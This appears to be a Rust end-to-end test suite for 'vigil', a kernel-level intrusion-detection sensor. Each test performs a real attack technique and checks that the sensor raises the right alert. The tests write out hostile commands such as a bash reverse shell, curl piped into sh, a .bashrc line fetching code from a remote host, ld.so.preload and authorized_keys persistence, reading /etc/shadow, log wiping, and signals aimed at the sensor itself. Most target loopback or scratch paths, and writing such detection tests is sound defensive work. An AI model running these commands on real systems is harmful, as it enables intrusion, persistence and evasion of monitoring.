//! The shipped behaviour rules on the real kernel: for each, a test does the real thing and
//! gets exactly the expected alert, and a benign near miss done first gets none.
//!
//! Each action runs under its own `sh -c`, and alerts are matched to it by lineage, since the
//! sensor sees the whole host (other tests included).
#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    reason = "a test or benchmark stops loudly at the first thing that fails"
)]

use std::{
    io::{Read as _, Write as _},
    net::TcpListener,
    process::Command,
    time::Duration,
};

use vigil_tests::{
    HttpServer, alert_below,
    rules::{expect_rule, path, run, run_ok, sensor, tmp},
    sensor_cmd,
};

#[test]
fn reverse_shell() {
    let Some(s) = sensor("reverse_shell") else {
        return;
    };
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    let server = std::thread::spawn(move || {
        for _ in 0..2 {
            let (mut c, _) = l.accept().expect("accept");
            let _ = c.write_all(b"exit\n");
            let _ = c.shutdown(std::net::Shutdown::Write);
            let mut buf = Vec::new();
            let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
            let _ = c.read_to_end(&mut buf);
        }
    });
    // Near miss: a program that is not a shell reading from a socket.
    let near = run_ok(&format!("bash -c 'cat < /dev/tcp/127.0.0.1/{port}'"));
    let real = run(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'"
    ));
    let a = expect_rule(&s, "vigil-reverse-shell", real, Some(near));
    assert_eq!(a["evidence"][0]["stdio"][0], "socket");
    assert_eq!(a["rule"]["severity"], "critical");
    server.join().expect("listener");
}

#[test]
fn interactive_shell_under_networked_interpreter() {
    let Some(s) = sensor("interactive_shell_under_networked_interpreter") else {
        return;
    };
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    let script = |shell: &str| {
        format!(
            "python3 -c \"import socket,subprocess; s=socket.create_connection(('127.0.0.1',{port})); subprocess.run({shell}, stdin=subprocess.DEVNULL)\""
        )
    };
    let near = run_ok(&script("['/bin/sh','-c','true']"));
    let real = run(&script("['/bin/sh']"));
    drop(l);
    expect_rule(&s, "vigil-networked-interpreter-shell", real, Some(near));
}

#[test]
fn download_chmod_exec() {
    let Some(s) = sensor("download_chmod_exec") else {
        return;
    };
    let d = tmp();
    std::fs::write(d.path().join("p.sh"), "#!/bin/sh\necho payload ran\n").expect("write");
    let http = HttpServer::serve(&d.path().to_string_lossy(), &[]);
    let url = format!("http://127.0.0.1:{}/p.sh", http.port);
    // Near miss: downloaded, but run through sh, never made executable.
    let near = run_ok(&format!(
        "curl -s -o {f} {url} && sh {f}",
        f = path(&d, "near")
    ));
    let real = run(&format!(
        "curl -s -o {f} {url} && chmod +x {f} && {f}",
        f = path(&d, "real")
    ));
    let a = expect_rule(&s, "vigil-download-chmod-exec", real, Some(near));
    assert_eq!(a["process"]["exe"], path(&d, "real"));
}

#[test]
fn exec_from_temp_dirs() {
    let Some(s) = sensor("exec_from_temp_dirs") else {
        return;
    };
    let d = tmp();
    // Near miss: a program a compiler linked in /tmp.
    std::fs::write(d.path().join("m.c"), "int main(void){return 0;}\n").expect("write");
    let near = run_ok(&format!(
        "cc -o {b} {c} && {b}",
        b = path(&d, "m"),
        c = path(&d, "m.c")
    ));
    let name = format!("/dev/shm/vigil-e2e-{}", std::process::id());
    let real = run(&format!("cp /bin/true {name} && {name}; rm -f {name}"));
    let a = expect_rule(&s, "vigil-exec-from-temp", real, Some(near));
    assert_eq!(a["process"]["exe"], name);
}

#[test]
fn fileless_exec() {
    let Some(s) = sensor("fileless_exec") else {
        return;
    };
    let near = run_ok("python3 -c \"import os; os.execv('/bin/true', ['true'])\"");
    let real = run(
        "python3 -c \"import os; fd=os.memfd_create('x'); os.write(fd, open('/bin/true','rb').read()); os.execve(fd, ['x'], {})\"",
    );
    let a = expect_rule(&s, "vigil-fileless-exec", real, Some(near));
    assert_eq!(a["evidence"][0]["memfd"], true);
}

#[test]
fn web_server_spawns_shell() {
    let Some(s) = sensor("web_server_spawns_shell") else {
        return;
    };
    let d = tmp();
    let cgi = d.path().join("cgi-bin");
    std::fs::create_dir(&cgi).expect("mkdir");
    // http.server runs CGI scripts as nobody when started as root: everything it needs must
    // be readable by others.
    let script = cgi.join("run.sh");
    std::fs::write(
        &script,
        "#!/bin/sh\nprintf 'Content-Type: text/plain\\n\\n'\n/bin/sh -c id\n",
    )
    .expect("write");
    for (p, mode) in [
        (d.path(), 0o755),
        (cgi.as_path(), 0o755),
        (script.as_path(), 0o755),
    ] {
        std::fs::set_permissions(p, std::os::unix::fs::PermissionsExt::from_mode(mode))
            .expect("chmod");
    }
    // Near miss: the same shell from a python that serves nothing.
    let near = run_ok("python3 -c \"import subprocess; subprocess.run(['/bin/sh','-c','id'])\"");
    let http = HttpServer::serve(&d.path().to_string_lossy(), &["--cgi"]);
    let real = run(&format!(
        "curl -s http://127.0.0.1:{}/cgi-bin/run.sh",
        http.port
    ));
    let server = http.child.id();
    let a = expect_rule(&s, "vigil-server-spawns-shell", server, None);
    assert!(alert_below(&a, server));
    let all = s.alerts();
    assert!(
        !all.iter()
            .any(|a| a["rule"]["id"] == "vigil-server-spawns-shell" && alert_below(a, near)),
        "the near miss raised it"
    );
    let _ = real;
}

#[test]
fn cron_persistence() {
    let Some(s) = sensor("cron_persistence") else {
        return;
    };
    let d = tmp();
    let near = run_ok(&format!(
        "echo '* * * * * true' > {}",
        path(&d, "crontab.txt")
    ));
    let file = format!("/etc/cron.d/vigil-e2e-{}", std::process::id());
    let real = run(&format!(
        "mkdir -p /etc/cron.d && echo '# vigil test' > {file}; rm -f {file}"
    ));
    let a = expect_rule(&s, "vigil-persistence-cron", real, Some(near));
    assert_eq!(a["entities"][0], file);
    assert!(
        a["rule"]["tags"]
            .as_array()
            .is_some_and(|t| t.iter().any(|t| t == "persistence"))
    );
}

#[test]
fn service_unit_persistence() {
    let Some(s) = sensor("service_unit_persistence") else {
        return;
    };
    let d = tmp();
    let near = run_ok(&format!("echo x > {}", path(&d, "systemd-notes.txt")));
    let unit = path(&d, "etc/systemd/system/vigil-e2e.service");
    let real = run(&format!(
        "mkdir -p {}/etc/systemd/system && printf '[Service]\\nExecStart=/bin/true\\n' > {unit}",
        d.path().display()
    ));
    expect_rule(&s, "vigil-persistence-service", real, Some(near));
}

#[test]
fn authorized_keys_persistence() {
    let Some(s) = sensor("authorized_keys_persistence") else {
        return;
    };
    let d = tmp();
    let ssh = d.path().join(".ssh");
    std::fs::create_dir(&ssh).expect("mkdir");
    let near = run_ok(&format!(
        "echo 'host ssh-ed25519 AAAA' >> {}/known_hosts",
        ssh.display()
    ));
    let real = run(&format!(
        "echo 'ssh-ed25519 AAAAC3Nza attacker' >> {}/authorized_keys",
        ssh.display()
    ));
    expect_rule(&s, "vigil-persistence-authorized-keys", real, Some(near));
}

#[test]
fn shell_rc_persistence() {
    let Some(s) = sensor("shell_rc_persistence") else {
        return;
    };
    let d = tmp();
    let near = run_ok(&format!("echo x >> {}", path(&d, ".bashrc.bak")));
    let real = run(&format!(
        "echo 'curl -s http://203.0.113.1/x | sh' >> {}",
        path(&d, ".bashrc")
    ));
    expect_rule(&s, "vigil-persistence-shell-rc", real, Some(near));
}

#[test]
fn ld_preload_persistence() {
    let Some(s) = sensor("ld_preload_persistence") else {
        return;
    };
    // In a scratch root, so the host's loader is never touched.
    let d = tmp();
    std::fs::create_dir(d.path().join("etc")).expect("mkdir");
    let near = run_ok(&format!("echo /usr/lib > {}", path(&d, "etc/ld.so.conf")));
    let real = run(&format!(
        "echo /tmp/evil.so > {}",
        path(&d, "etc/ld.so.preload")
    ));
    let a = expect_rule(&s, "vigil-persistence-ld-preload", real, Some(near));
    assert_eq!(a["rule"]["severity"], "critical");
}

#[test]
fn setuid_bit() {
    let Some(s) = sensor("setuid_bit") else {
        return;
    };
    let d = tmp();
    let near = run_ok(&format!(
        "cp /bin/true {f} && chmod 755 {f}",
        f = path(&d, "near")
    ));
    let real = run(&format!(
        "cp /bin/true {f} && chmod u+s {f}",
        f = path(&d, "real")
    ));
    let a = expect_rule(&s, "vigil-setuid-bit", real, Some(near));
    assert_eq!(a["evidence"][0]["setuid"], true);
    assert_eq!(a["entities"][0], path(&d, "real"));
}

#[test]
fn credential_read() {
    let Some(s) = sensor("credential_read") else {
        return;
    };
    let near = run_ok("cat /etc/hostname > /dev/null");
    let real = run("cat /etc/shadow > /dev/null");
    let a = expect_rule(&s, "vigil-credential-read", real, Some(near));
    assert_eq!(a["entities"][0], "/etc/shadow");
}

#[test]
fn log_tampering() {
    let Some(s) = sensor("log_tampering") else {
        return;
    };
    let log = format!("/var/log/vigil-e2e-{}.log", std::process::id());
    let near = run_ok(&format!("echo line >> {log}"));
    let real = run(&format!(": > {log}; rm -f {log}"));
    let a = expect_rule(&s, "vigil-log-tampering", real, Some(near));
    assert_eq!(a["entities"][0], log);
}

#[test]
fn history_tampering() {
    let Some(s) = sensor("history_tampering") else {
        return;
    };
    let d = tmp();
    let hist = path(&d, ".bash_history");
    let near = run_ok(&format!("echo ls >> {hist}"));
    let real = run(&format!("cp /dev/null {hist}"));
    expect_rule(&s, "vigil-history-tampering", real, Some(near));
}

#[test]
fn kernel_module_load() {
    let Some(s) = sensor("kernel_module_load") else {
        return;
    };
    let status = s.status().expect("status");
    let skipped = status["skipped_hooks"].as_array().is_some_and(|h| {
        h.iter()
            .any(|h| h["target"] == "syscalls/sys_exit_finit_module")
    });
    if skipped {
        vigil_tests::skipped(
            "kernel_module_load",
            "this kernel has no finit_module tracepoint (built without module support); `rules test` covers the rule",
        );
        return;
    }
    let near = run_ok("python3 -c \"import os; os.getpid()\"");
    let real = run("python3 -c \"import ctypes; ctypes.CDLL(None).syscall(313, 999, b'', 0)\"");
    expect_rule(&s, "vigil-kernel-module-load", real, Some(near));
}

#[test]
fn ptrace_attach() {
    let Some(s) = sensor("ptrace_attach") else {
        return;
    };
    let mut victim = Command::new("sleep").arg("30").spawn().expect("sleep");
    // Near miss: a process tracing its own child.
    let near = run_ok(
        "python3 -c \"import ctypes,os,time; c=os.fork()\nif c==0: time.sleep(2); os._exit(0)\nl=ctypes.CDLL(None); l.ptrace(16,c,0,0); time.sleep(0.2); l.ptrace(17,c,0,0); os.kill(c,9)\"",
    );
    let real = run(&format!(
        "python3 -c \"import ctypes,time; l=ctypes.CDLL(None); l.ptrace(16,{v},0,0); time.sleep(0.2); l.ptrace(17,{v},0,0)\"",
        v = victim.id()
    ));
    let _ = victim.kill();
    let _ = victim.wait();
    let a = expect_rule(&s, "vigil-ptrace-attach", real, Some(near));
    assert_eq!(a["evidence"][0]["request_name"], "PTRACE_ATTACH");
}

/// Removes the test account whatever happens.
struct Account(String);
impl Drop for Account {
    fn drop(&mut self) {
        let _ = Command::new("userdel").arg(&self.0).output();
    }
}

#[test]
fn local_account_creation() {
    let Some(s) = sensor("local_account_creation") else {
        return;
    };
    let name = format!("vgl{}", std::process::id() % 100_000);
    let _guard = Account(name.clone());
    let near = run_ok("getent passwd root > /dev/null");
    let real = run(&format!("useradd -M -s /bin/false {name}"));
    let a = expect_rule(&s, "vigil-local-account-created", real, Some(near));
    assert!(
        a["process"]["cmdline"]
            .as_str()
            .is_some_and(|c| c.contains(&name))
    );
}

#[test]
fn port_scan() {
    let Some(s) = sensor("port_scan") else {
        return;
    };
    // Closed loopback ports: find a run of free ones.
    let base = TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("port")
        .port()
        .saturating_sub(100)
        .max(20_000);
    let scan = |n: u16| {
        format!(
            "bash -c 'for p in $(seq {} {}); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; exit 0'",
            base,
            base + n - 1
        )
    };
    let near = run_ok(&scan(5));
    let real = run(&scan(30));
    let a = expect_rule(&s, "vigil-port-scan", real, Some(near));
    assert!(a["evidence"].as_array().is_some_and(|e| e.len() >= 20));
}

#[test]
fn encoded_payload_into_shell() {
    let Some(s) = sensor("encoded_payload_into_shell") else {
        return;
    };
    let near = run_ok("echo ZWNobyBoaQo= | base64 -d | cat");
    let real = run("echo ZWNobyBoaQo= | base64 -d | sh");
    let a = expect_rule(&s, "vigil-encoded-payload-to-shell", real, Some(near));
    assert_eq!(a["evidence"].as_array().map(Vec::len), Some(2));
}

#[test]
fn download_into_shell() {
    let Some(s) = sensor("download_into_shell") else {
        return;
    };
    let d = tmp();
    std::fs::write(d.path().join("i.sh"), "echo installed\n").expect("write");
    let http = HttpServer::serve(&d.path().to_string_lossy(), &[]);
    let url = format!("http://127.0.0.1:{}/i.sh", http.port);
    let near = run_ok(&format!("curl -s {url} | cat"));
    let real = run(&format!("curl -s {url} | sh"));
    expect_rule(&s, "vigil-download-to-shell", real, Some(near));
}

#[test]
fn bpf_program_load() {
    let Some(s) = sensor("bpf_program_load") else {
        return;
    };
    let load = |cmd: u32| {
        format!(
            "python3 -c \"import ctypes,struct\nl=ctypes.CDLL(None)\nins=ctypes.create_string_buffer(struct.pack('<BBhi',0xb7,0,0,0)+struct.pack('<BBhi',0x95,0,0,0))\nlic=ctypes.create_string_buffer(b'GPL')\na=ctypes.create_string_buffer(struct.pack('<IIQQIIQ',1,2,ctypes.addressof(ins),ctypes.addressof(lic),0,0,0)+bytes(80))\nprint(l.syscall(321,{cmd},a,128))\""
        )
    };
    // Near miss: BPF_MAP_CREATE with nonsense (a bpf() call that loads nothing).
    let near = run_ok(&load(0));
    let real = run(&load(5));
    let a = expect_rule(&s, "vigil-bpf-program-load", real, Some(near));
    assert_eq!(a["evidence"][0]["command_name"], "BPF_PROG_LOAD");
}

#[test]
fn signal_to_the_sensor() {
    let Some(s) = sensor("signal_to_the_sensor") else {
        return;
    };
    let pid = s.pid();
    let near = run_ok(&format!("kill -0 {pid}"));
    // Stopped, then let go: a frozen sensor is a blind one.
    let real = run(&format!("kill -STOP {pid}; kill -CONT {pid}"));
    let a = expect_rule(&s, "vigil-sensor-tampering-signal", real, Some(near));
    assert_eq!(a["evidence"][0]["target_pid"], pid);
}

/// A python script doing `how` with `t` the target's pid: the sensor's for the real thing, a
/// child of the script's own for the near miss.
fn at_process(target_is_sensor: Option<u32>, how: &str) -> String {
    let target = match target_is_sensor {
        Some(pid) => format!("c=None\nt={pid}"),
        None => "c=subprocess.Popen(['sleep','5'])\nt=c.pid".to_owned(),
    };
    format!(
        "python3 -c \"import ctypes,os,signal,subprocess\nl=ctypes.CDLL(None,use_errno=True)\n{target}\n{how}\nc and c.kill()\""
    )
}

#[test]
fn signal_to_the_sensor_by_every_call_that_sends_one() {
    let Some(s) = sensor("signal_to_the_sensor_by_every_call_that_sends_one") else {
        return;
    };
    let pid = s.pid();
    // SIGSTOP then SIGCONT through each call; the pidfd is closed before the sensor can read
    // /proc, so only its pidfd_open tells whose it was.
    let ways = [
        ("tgkill", "l.syscall(234,t,t,19); l.syscall(234,t,t,18)"),
        ("tkill", "l.syscall(200,t,19); l.syscall(200,t,18)"),
        (
            "pidfd_send_signal",
            "fd=os.pidfd_open(t); signal.pidfd_send_signal(fd,19); os.close(fd); os.kill(t,18)",
        ),
    ];
    for (n, (call, how)) in ways.iter().enumerate() {
        // Near miss (the first time): the same calls at a process of the script's own.
        let near = (n == 0).then(|| {
            let mut all = String::new();
            for (_, how) in &ways {
                all.push_str(how);
                all.push('\n');
            }
            run_ok(&at_process(None, &all))
        });
        let real = run(&at_process(Some(pid), how));
        let a = expect_rule(&s, "vigil-sensor-tampering-signal", real, near);
        let e = &a["evidence"][0];
        assert_eq!(e["target_pid"], pid, "{call}: {a}");
        assert_eq!(e["syscall"], *call, "{call}: {a}");
    }
}

#[test]
fn descriptors_taken_from_the_sensor() {
    let Some(s) = sensor("descriptors_taken_from_the_sensor") else {
        return;
    };
    let pid = s.pid();
    // Its descriptor 0 copied out with pidfd_getfd, and the pidfd closed at once.
    let take = "fd=os.pidfd_open(t); n=l.syscall(438,fd,0,0); os.close(fd); print(n)";
    let near = run_ok(&at_process(None, take));
    let real = run(&at_process(Some(pid), take));
    let a = expect_rule(&s, "vigil-sensor-tampering-fd-theft", real, Some(near));
    let e = &a["evidence"][0];
    assert_eq!(e["target_pid"], pid, "{a}");
    assert_eq!(e["target_fd"], 0, "{a}");
    assert_eq!(a["rule"]["severity"], "critical");
}

#[test]
fn writes_to_the_sensors_files() {
    let Some(s) = sensor("writes_to_the_sensors_files") else {
        return;
    };
    let state = s.state();
    let near = run_ok(&format!(
        "echo x > {}",
        s.dir.path().join("beside-the-state").display()
    ));
    let real = run(&format!("echo x > {}", state.join("planted").display()));
    expect_rule(&s, "vigil-sensor-tampering-files", real, Some(near));
}

#[test]
fn rules_test_passes_on_the_shipped_rules() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/rules");
    let out = sensor_cmd(&["rules", "test", &dir.to_string_lossy()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    let summary = text.lines().last().unwrap_or_default();
    assert!(summary.ends_with("0 failures"), "{summary}");
    let rules: usize = summary
        .split_whitespace()
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    assert!(rules >= 15, "{summary}");
}

#[test]
fn rules_test_fails_on_a_wrong_case() {
    let d = tmp();
    let rule = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/rules/setuid-bit.yml"),
    )
    .expect("read rule");
    // Turn a must-not-match case into a must-match one: the run must fail and say which.
    let broken = rule.replacen(
        "  - name: chmod +x\n    expect: no_match",
        "  - name: chmod +x\n    expect: match",
        1,
    );
    assert_ne!(broken, rule);
    std::fs::write(d.path().join("r.yml"), broken).expect("write");
    let out = sensor_cmd(&["rules", "test", &d.path().to_string_lossy()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!out.status.success(), "{text}");
    assert!(
        text.contains("FAIL vigil-setuid-bit: chmod +x: expected a match"),
        "{text}"
    );
}
